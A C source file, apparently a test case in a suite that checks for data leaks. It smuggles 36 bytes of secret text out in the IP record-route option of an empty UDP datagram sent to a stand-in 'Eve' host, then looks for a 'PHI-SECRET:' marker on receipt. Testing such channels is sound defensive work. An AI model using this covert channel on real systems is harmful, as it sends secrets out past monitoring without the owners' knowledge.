// SPDX-License-Identifier: GPL-3.0-or-later
/* Not in the datagram, which is empty: in its options. */
#include "flow-net.h"
#include <netinet/ip.h>

static int make(void)
{
	int on = 1;

	return make_udp()
		       ?: setsockopt(net_fd, IPPROTO_IP, IP_RECVOPTS, &on, sizeof(on)) < 0
			  ? broken("IP_RECVOPTS")
			  : 0;
}

/* A record of the route that is full already is carried as it is. */
static int put(void)
{
	unsigned char option[40] = { IPOPT_RR, 39, 40 };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct net_addr a = net_at(NET_EVE_IP, FLOW_PORT);

	memcpy(option + 3, flow.text, 36);
	if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, option, sizeof(option)) < 0)
		return -errno;
	return flow_result(sendto(fd, "", 0, 0, (struct sockaddr *)&a.at, a.len));
}

static int get(void)
{
	char control[256] = "", byte;
	struct iovec iov = { &byte, 1 };
	struct msghdr msg = { .msg_iov = &iov,
			      .msg_iovlen = 1,
			      .msg_control = control,
			      .msg_controllen = sizeof(control) };
	struct pollfd p = { net_fd, POLLIN, 0 };

	if (poll(&p, 1, flow.status ? 0 : 1000) != 1)
		return FLOW_NOTHING;
	if (recvmsg(net_fd, &msg, 0) < 0)
		return refused("recvmsg");
	const char *found = memmem(control, sizeof(control), "PHI-SECRET:", 11);
	return found ? works("%.36s", found) : FLOW_NOTHING;
}

FLOW("attack: net_udp_ip_options; threat: #80; op: send; door: network", .make = make, .put = put,
     .get = get);
